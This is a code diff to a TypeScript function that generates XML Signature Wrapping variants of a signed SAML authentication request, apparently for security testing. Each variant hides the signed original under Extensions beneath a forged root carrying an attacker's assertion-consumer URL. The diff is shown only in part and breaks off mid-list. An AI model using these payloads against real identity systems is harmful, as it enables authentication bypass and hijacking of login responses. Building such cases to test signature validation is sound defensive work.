@@ -130,21 +130,23 @@ export function wrapSignedRequest(signedXml: string, o: { evilAcsUrl: string }):
   const openTag = (xml: string) => /^<samlp:AuthnRequest[^>]*>/.exec(xml)![0];
   const issuerEnd = '</saml:Issuer>';
   const inject = (xml: string, what: string) => xml.replace(issuerEnd, `${issuerEnd}${what}`);
+  // Extensions may only hold elements of other namespaces (core §3.2.1), so the original hides in one.
+  const hidden = (xml: string) => `<samlp:Extensions><w:Wrap xmlns:w="urn:example:wrap">${xml}</w:Wrap></samlp:Extensions>`;
   return [
     {
       // XSW #1 shape: a new root with the evil ACS; the original signed request sits in Extensions.
       name: 'signed original inside Extensions of an evil root',
-      xml: inject(evilRoot(unsigned, evilId), `<samlp:Extensions>${signedXml}</samlp:Extensions>`),
+      xml: inject(evilRoot(unsigned, evilId), hidden(signedXml)),
     },
     {
       // The evil root keeps the original ID and the signature; the original moves under Extensions with it.
       name: 'evil root reusing the signed ID, original under Extensions',
-      xml: inject(evilRoot(unsigned, id), `${signature}<samlp:Extensions>${unsigned.replace(`ID="${id}"`, `ID="${id}"`)}</samlp:Extensions>`),
+      xml: inject(evilRoot(unsigned, id), `${signature}${hidden(unsigned)}`),
     },
     {
       // The signature stays a child of the evil root, but references the original kept inside it.
       name: 'root signature referencing a wrapped original',
-      xml: inject(evilRoot(unsigned, evilId), `${signature}<samlp:Extensions>${unsigned}</samlp:Extensions>`),
+      xml: inject(evilRoot(unsigned, evilId), `${signature}${hidden(unsigned)}`),
     },
     {
       // Two signatures: a forged one for the root next to the valid one.
